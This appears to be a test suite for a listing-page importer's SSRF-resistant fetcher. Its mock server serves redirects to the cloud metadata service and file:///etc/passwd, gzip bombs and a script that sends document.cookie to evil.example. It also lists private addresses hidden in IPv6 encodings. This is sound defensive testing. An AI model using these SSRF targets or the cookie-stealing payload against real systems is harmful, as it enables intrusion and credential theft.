import { readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import zlib from 'node:zlib';
import { loadConfig } from '../../../platform/config';
import { ListingPageImporter } from './listing-page-importer';
import { DEFAULT_FETCH_POLICY, fetchHtmlPage, isPublicAddress, PageFetchError, type FetchPolicy } from './safe-fetch';

const FIXTURES = path.resolve(__dirname, '../../../../test/fixtures/listing-pages');
const RIGHTMOVE_PAGE = readFileSync(path.join(FIXTURES, 'uk_rightmove.html'));
const SIX_MB = 6 * 1024 * 1024;

// A real HTTP server on 127.0.0.1, allowed by configuration as a test portal; its routes play the hostile sites.
let server: http.Server;
let origin: string;
let policy: FetchPolicy;
const openResponses = new Set<http.ServerResponse>();

const routes: Record<string, (request: http.IncomingMessage, response: http.ServerResponse) => void> = {
  '/properties/171844895': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(RIGHTMOVE_PAGE);
  },
  '/gzip': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' });
    response.end(zlib.gzipSync('<html><head><title>Zipped cottage</title></head></html>'));
  },
  '/latin1': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=iso-8859-1' });
    response.end(Buffer.from('<title>Caf\xe9 for sale</title>', 'latin1'));
  },
  '/redirect-home': (_, response) => {
    response.writeHead(302, { location: '/properties/171844895' }).end();
  },
  '/redirect-to-metadata': (_, response) => {
    response.writeHead(301, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
  },
  '/redirect-to-compatible-metadata': (_, response) => {
    response.writeHead(302, { location: 'http://[::169.254.169.254]/latest/meta-data/' }).end();
  },
  '/redirect-to-file': (_, response) => {
    response.writeHead(302, { location: 'file:///etc/passwd' }).end();
  },
  '/redirect-loop': (_, response) => {
    response.writeHead(307, { location: '/redirect-loop' }).end();
  },
  '/huge': (_, response) => {
    // No content-length: the size is only known by counting.
    response.writeHead(200, { 'content-type': 'text/html' });
    const chunk = Buffer.alloc(64 * 1024, 'a');
    const write = (sent: number) => {
      if (sent >= SIX_MB || response.destroyed) return response.end();
      response.write(chunk, () => write(sent + chunk.length));
    };
    write(0);
  },
  '/huge-declared': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html', 'content-length': String(SIX_MB) });
    response.write('<html>');
  },
  '/gzip-bomb': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' });
    response.end(zlib.gzipSync(Buffer.alloc(SIX_MB, ' ')));
  },
  '/slow-drip': (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    const timer = setInterval(() => response.write('<p>'), 50);
    response.on('close', () => clearInterval(timer));
  },
  '/never-answers': () => {},
  '/json': (_, response) => {
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"price": 1}');
  },
  '/untyped': (_, response) => {
    response.writeHead(200).end('<html></html>');
  },
  '/gone': (_, response) => {
    response.writeHead(404, { 'content-type': 'text/html' }).end('<h1>Not found</h1>');
  },
  '/script-title': (_, response) => {
    response.writeHead(200, { 'content-type': 'application/xhtml+xml' });
    response.end(
      '<html><head><title>Flat &amp; <script>document.location="https://evil.example/?"+document.cookie</script>' +
        'garden &lt;i&gt;for sale&lt;/i&gt;</title></head><body></body></html>',
    );
  },
};

beforeAll(async () => {
  server = http.createServer((request, response) => {
    openResponses.add(response);
    response.on('close', () => openResponses.delete(response));
    const route = routes[new URL(request.url ?? '/', 'http://x').pathname];
    if (route) route(request, response);
    else response.writeHead(500).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  origin = `http://127.0.0.1:${port}`;
  // The product's time limit (10 s): a 6 MB page or a zip bomb is read past 5 MB before it, even on a busy machine.
  policy = { ...DEFAULT_FETCH_POLICY, allowedHosts: [`127.0.0.1:${port}`] };
});

afterAll(async () => {
  for (const response of openResponses) response.destroy();
  await new Promise((resolve) => server.close(resolve));
});

async function refusal(url: string, fetchPolicy: FetchPolicy = policy): Promise<PageFetchError> {
  const error = await fetchHtmlPage(url, fetchPolicy).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (!(error instanceof PageFetchError)) throw new Error(`expected a refusal of ${url}, got ${String(error)}`);
  expect(error.code).toBe('BAD_USER_INPUT');
  return error;
}

describe('ListingPageImporter.importUrl through a local server allowed by IMPORT_ALLOWED_HOSTS', () => {
  it('fetches a saved listing page and reads it by its data, wherever it is served from', async () => {
    const config = loadConfig({ IMPORT_ALLOWED_HOSTS: new URL(origin).host });
    const imported = await ListingPageImporter.fromConfig(config).importUrl(`${origin}/properties/171844895`);

    expect(imported.url).toBe(`${origin}/properties/171844895`);
    // Not at rightmove.co.uk, but carrying Rightmove's page data: read by its mapping, with prices masked in the texts.
    expect(imported.portal).toBe('rightmove.co.uk');
    expect(imported.draft).toMatchObject({ price: 695000, currency: 'GBP', bedrooms: 4, forSale: true });
    expect(imported.draft.description).not.toContain('695,000');
    expect(imported.missing).toEqual([]);
    expect(imported.message).toBeNull();
  });

  it('follows a redirect within the allowed server, and reports where the page was found', async () => {
    const page = await fetchHtmlPage(`${origin}/redirect-home`, policy);
    expect(page.url).toBe(`${origin}/properties/171844895`);
    // Compared as a flag: a diff of two 1 MB pages says nothing.
    expect(page.html === RIGHTMOVE_PAGE.toString('utf8')).toBe(true);
  });

  it('decompresses a gzipped page, and decodes the charset the server names', async () => {
    expect((await fetchHtmlPage(`${origin}/gzip`, policy)).html).toContain('Zipped cottage');
    expect((await fetchHtmlPage(`${origin}/latin1`, policy)).html).toContain('Café for sale');
  });

  it('connects to the addresses it checked, never resolving the name again (DNS rebinding)', async () => {
    // A name only this resolver knows, answering 127.0.0.1 once and then a private address: the system resolver
    // cannot resolve it, so the page loads only through the checked answer.
    const { port } = new URL(origin);
    const answers = [[{ address: '127.0.0.1', family: 4 as const }], [{ address: '10.0.0.1', family: 4 as const }]];
    const rebinding: FetchPolicy = {
      ...policy,
      allowedHosts: [`rebinding.test:${port}`],
      resolveHost: async () => answers.shift() ?? [],
    };
    const page = await fetchHtmlPage(`http://rebinding.test:${port}/gzip`, rebinding);
    expect(page.html).toContain('Zipped cottage');
    expect(answers).toEqual([[{ address: '10.0.0.1', family: 4 }]]);
  });

  it('tries each checked address: a name resolving to ::1 and 127.0.0.1 reaches a server on 127.0.0.1', async () => {
    const { port } = new URL(origin);
    const dualStack: FetchPolicy = {
      ...policy,
      allowedHosts: [`dual.test:${port}`],
      resolveHost: async () => [
        { address: '::1', family: 6 },
        { address: '127.0.0.1', family: 4 },
      ],
    };
    expect((await fetchHtmlPage(`http://dual.test:${port}/gzip`, dualStack)).html).toContain('Zipped cottage');
  });

  it('keeps a script in the title as nothing but plain text', async () => {
    const imported = await new ListingPageImporter(policy).importUrl(`${origin}/script-title`);
    expect(imported.draft.title).toBe('Flat & garden for sale');
  });
});

describe('fetchHtmlPage refuses', () => {
  it.each([
    ['file:///etc/passwd', 'scheme', 'The address uses file:: only http and https pages can be imported.'],
    [
      'ftp://ftp.example.com/listing.html',
      'scheme',
      'The address uses ftp:: only http and https pages can be imported.',
    ],
    ['javascript:alert(1)', 'scheme', 'The address uses javascript:: only http and https pages can be imported.'],
    ['not a url', 'bad-url', "The address is not a web address: paste the listing's full URL (https://...)."],
    [
      'https://user:secret@homes.example/',
      'bad-url',
      'The address has a user name or password in it, which cannot be imported.',
    ],
  ])('%s (%s)', async (url, reason, message) => {
    const error = await refusal(url);
    expect([error.refusal, error.message]).toEqual([reason, message]);
  });

  it("in the brand's language, once it is known", async () => {
    const error = await refusal('ftp://ftp.example.com/listing.html');
    expect(error.messageIn('es')).toBe('La dirección usa ftp:: solo se pueden importar páginas http y https.');
    expect(error.messageIn('en')).toBe(error.message);
  });

  it.each([
    'http://10.1.2.3/',
    'http://192.168.0.10/listing',
    'http://169.254.169.254/latest/meta-data/',
    'http://100.64.0.1/',
    'http://0.0.0.0/',
    'http://[::1]/',
    'http://[::ffff:127.0.0.1]/',
    'http://[::ffff:7f00:1]/',
    'http://[::127.0.0.1]/',
    'http://[::169.254.169.254]/latest/meta-data/',
    'http://[64:ff9b::127.0.0.1]/',
    'http://[64:ff9b:1::a9fe:a9fe]/',
    'http://[2002:7f00:1::]/',
    'http://[2001:0:7f00:1::]/',
    'http://[fd00::1]/',
    'http://[fe80::1]/',
    'http://224.0.0.1/',
    'http://2130706433/', // 127.0.0.1 written as one number
  ])('a private, local or reserved address: %s', async (url) => {
    const error = await refusal(url);
    expect(error.refusal).toBe('blocked-address');
    expect(error.message).toMatch(/is not a public internet address \(a private, local or reserved network\)/);
  });

  it('loopback on the allowed port under another name: localhost, or 127.0.0.1 mapped to IPv6', async () => {
    const { port } = new URL(origin);
    for (const url of [
      `http://localhost:${port}/properties/171844895`,
      `http://[::ffff:127.0.0.1]:${port}/`,
      `http://[::127.0.0.1]:${port}/`,
    ]) {
      expect((await refusal(url)).refusal).toBe('blocked-address');
    }
  });

  it('the allowed server itself once configuration no longer allows it', async () => {
    const error = await refusal(`${origin}/properties/171844895`, { ...policy, allowedHosts: [] });
    expect(error.message).toBe(
      '127.0.0.1 is not a public internet address (a private, local or reserved network): it cannot be imported.',
    );
  });

  it('a redirect from the allowed server to a private address, or to another scheme', async () => {
    const toMetadata = await refusal(`${origin}/redirect-to-metadata`);
    expect([toMetadata.refusal, toMetadata.message]).toEqual([
      'blocked-address',
      'The page redirected to 169.254.169.254, which is not a public internet address (a private, local or reserved ' +
        'network): it cannot be imported.',
    ]);
    const toFile = await refusal(`${origin}/redirect-to-file`);
    expect([toFile.refusal, toFile.message]).toEqual([
      'scheme',
      'The page redirected to an address that uses file:: only http and https pages can be imported.',
    ]);
  });

  it('a redirect to the metadata service written as an IPv4-compatible IPv6 address', async () => {
    const error = await refusal(`${origin}/redirect-to-compatible-metadata`);
    expect([error.refusal, error.message]).toEqual([
      'blocked-address',
      'The page redirected to ::a9fe:a9fe, which is not a public internet address (a private, local or reserved ' +
        'network): it cannot be imported.',
    ]);
  });

  it.each(['::7f00:1', '::ffff:a9fe:a9fe', '64:ff9b::a00:1', '2002:a00:1::1'])(
    'a name that resolves to %s, even alongside a public address',
    async (address) => {
      const resolving: FetchPolicy = {
        ...policy,
        resolveHost: async () => [
          { address: '93.184.215.14', family: 4 },
          { address, family: 6 },
        ],
      };
      const error = await refusal('http://listings.example/', resolving);
      expect([error.refusal, error.message]).toEqual([
        'blocked-address',
        'listings.example is not a public internet address (a private, local or reserved network): it cannot be ' +
          'imported.',
      ]);
    },
  );

  it('more than five redirects', async () => {
    const error = await refusal(`${origin}/redirect-loop`);
    expect([error.refusal, error.message]).toEqual(['too-many-redirects', 'The page redirected more than 5 times.']);
  });

  it.each(['/huge', '/huge-declared', '/gzip-bomb'])('a page over 5 MB: %s', async (route) => {
    const error = await refusal(`${origin}${route}`);
    expect([error.refusal, error.message]).toEqual(['too-large', 'The page is larger than 5 MB.']);
  });

  it.each(['/slow-drip', '/never-answers'])('a page that takes longer than the time limit: %s', async (route) => {
    const started = Date.now();
    const error = await refusal(`${origin}${route}`, { ...policy, timeoutMs: 1000 });
    expect([error.refusal, error.message]).toEqual(['timeout', 'The page took longer than 1 second to load.']);
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it('what is not an HTML page', async () => {
    const json = await refusal(`${origin}/json`);
    expect([json.refusal, json.message]).toEqual([
      'not-html',
      'That address is not a web page (it is application/json).',
    ]);
    const untyped = await refusal(`${origin}/untyped`);
    expect(untyped.message).toBe('That address is not a web page (it is of no stated type).');
  });

  it('a page the site answers with an error status', async () => {
    const error = await refusal(`${origin}/gone`);
    expect([error.refusal, error.message]).toEqual([
      'http-status',
      'The page could not be loaded: the site answered 404.',
    ]);
  });

  it('a site whose name does not resolve', async () => {
    const error = await refusal('http://no-such-host.invalid/');
    expect([error.refusal, error.message]).toEqual([
      'unknown-host',
      'The site no-such-host.invalid could not be found.',
    ]);
  });
});

describe('isPublicAddress', () => {
  it.each([
    '8.8.8.8',
    '151.101.1.1',
    '2001:4860:4860::8888',
    '2a00:1450:4009:81f::200e',
    // Translated forms carrying a public IPv4 address: a DNS64 network answers 64:ff9b::/96 for an IPv4-only site.
    '::ffff:8.8.8.8',
    '::ffff:808:808',
    '::ffff:0:8.8.8.8',
    '64:ff9b::8.8.8.8',
    '64:ff9b::808:808',
  ])('%s is public', (address) => {
    expect(isPublicAddress(address)).toBe(true);
  });

  // Every special IPv4 range, on its own and in every IPv6 form that embeds an IPv4 address.
  const specialIpv4 = [
    '10.0.0.1', // private
    '172.16.5.4',
    '192.168.1.1',
    '127.0.0.1', // loopback
    '169.254.169.254', // link-local: the cloud metadata service
    '100.64.0.1', // carrier-grade NAT
    '224.0.0.251', // multicast
    '0.0.0.0', // unspecified
    '255.255.255.255', // broadcast
    '192.0.2.1', // documentation
    '198.51.100.7',
    '203.0.113.9',
    '198.18.0.1', // benchmarking
    '192.0.0.8', // IETF protocol assignments
    '240.0.0.1', // reserved
  ];
  const ipv6Forms: [string, (ipv4: string) => string][] = [
    ['IPv4-mapped', (ipv4) => `::ffff:${ipv4}`],
    ['IPv4-mapped, in hex', (ipv4) => `::ffff:${hexPair(ipv4)}`],
    ['IPv4-translated', (ipv4) => `::ffff:0:${ipv4}`],
    ['IPv4-compatible', (ipv4) => `::${ipv4}`],
    ['IPv4-compatible, in hex', (ipv4) => `::${hexPair(ipv4)}`],
    ['NAT64', (ipv4) => `64:ff9b::${ipv4}`],
    ['NAT64 local-use', (ipv4) => `64:ff9b:1::${hexPair(ipv4)}`],
    ['6to4', (ipv4) => `2002:${hexPair(ipv4)}::1`],
    ['Teredo', (ipv4) => `2001:0:${hexPair(ipv4)}::1`],
  ];
  it.each(specialIpv4)('%s is not public', (address) => {
    expect(isPublicAddress(address)).toBe(false);
  });
  it.each(ipv6Forms)('%s forms of special IPv4 addresses are not public', (_form, embed) => {
    const judgedPublic = specialIpv4.map(embed).filter(isPublicAddress);
    expect(judgedPublic).toEqual([]);
  });
  it.each([
    '::ffff:127.0.0.1',
    '::127.0.0.1',
    '::7f00:1',
    '::169.254.169.254',
    '::a9fe:a9fe',
    '::ffff:7f00:1',
    '64:ff9b::7f00:1',
    '64:ff9b:1::a00:1',
    // Forms whose embedded IPv4 address is not the server's (tunnels), or deprecated: refused whatever they carry.
    '::8.8.8.8',
    '2002:808:808::1',
    '2001:0:808:808::1',
    '64:ff9b:1:808:8:800::',
  ])('%s is not public', (address) => {
    expect(isPublicAddress(address)).toBe(false);
  });

  it.each([
    '::1', // loopback
    '::', // unspecified
    'fe80::1', // link-local
    'fc00::1', // unique-local
    'fd12:3456::1',
    'fec0::1', // site-local (deprecated)
    'ff02::1', // multicast
    'ff0e::1',
    '100::1', // discard
    '2001:db8::1', // documentation
    '3fff::1',
    '2001:2::1', // benchmarking
    '2001:10::1', // ORCHID
    '::1:0:0:1', // outside the global unicast space
    '4000::1',
    'fe80::1%eth0',
    '0177.0.0.1', // octal for 127.0.0.1, which ipaddr.js reads but Node does not
    'not an address',
  ])('%s is not public', (address) => {
    expect(isPublicAddress(address)).toBe(false);
  });
});

/** "127.0.0.1" -> "7f00:1": the address as the two low 16-bit groups of an IPv6 address. */
function hexPair(ipv4: string): string {
  const [a, b, c, d] = ipv4.split('.').map(Number);
  return `${((a! << 8) | b!).toString(16)}:${((c! << 8) | d!).toString(16)}`;
}
